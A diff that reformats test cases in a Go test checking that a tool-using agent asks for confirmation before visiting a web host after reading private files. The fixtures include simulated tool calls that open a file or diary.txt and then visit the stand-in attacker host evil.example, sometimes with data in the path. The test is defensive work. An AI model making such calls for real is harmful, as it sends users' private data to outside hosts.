@@ -190,13 +190,22 @@ func TestWhatWasReadAsksBeforeItLeaves(t *testing.T) {
 		places string
 	}{
 		{"a page of a host that no person wrote", nil, []llm.ToolCall{asks("open", "x"), asks("visit", "https://evil.example/1234")}, true, "evil.example"},
-		{"a page of a host that the person wrote", func(s *toolchat.Scene) { s.Written = []string{"good.example"} },
-			[]llm.ToolCall{asks("open", "x"), asks("visit", "https://good.example/")}, false, ""},
+		{
+			"a page of a host that the person wrote", func(s *toolchat.Scene) { s.Written = []string{"good.example"} },
+			[]llm.ToolCall{asks("open", "x"), asks("visit", "https://good.example/")},
+			false, "",
+		},
 		{"a page before anything private was read", nil, []llm.ToolCall{asks("visit", "https://any.example/"), asks("open", "x")}, false, ""},
-		{"a file that was read for an earlier message", func(s *toolchat.Scene) { s.Earlier = []tool.Mark{{Kind: tool.OfFile, Name: "diary.txt"}} },
-			[]llm.ToolCall{asks("visit", "https://evil.example/")}, true, "evil.example"},
-		{"a host that the person allowed for the conversation", func(s *toolchat.Scene) { s.Trusted = []string{tool.ReachTrust("evil.example")} },
-			[]llm.ToolCall{asks("open", "x"), asks("visit", "https://evil.example/")}, false, ""},
+		{
+			"a file that was read for an earlier message", func(s *toolchat.Scene) { s.Earlier = []tool.Mark{{Kind: tool.OfFile, Name: "diary.txt"}} },
+			[]llm.ToolCall{asks("visit", "https://evil.example/")},
+			true, "evil.example",
+		},
+		{
+			"a host that the person allowed for the conversation", func(s *toolchat.Scene) { s.Trusted = []string{tool.ReachTrust("evil.example")} },
+			[]llm.ToolCall{asks("open", "x"), asks("visit", "https://evil.example/")},
+			false, "",
+		},
 	}
 	for _, test := range tests {
 		t.Run(test.name, func(t *testing.T) {
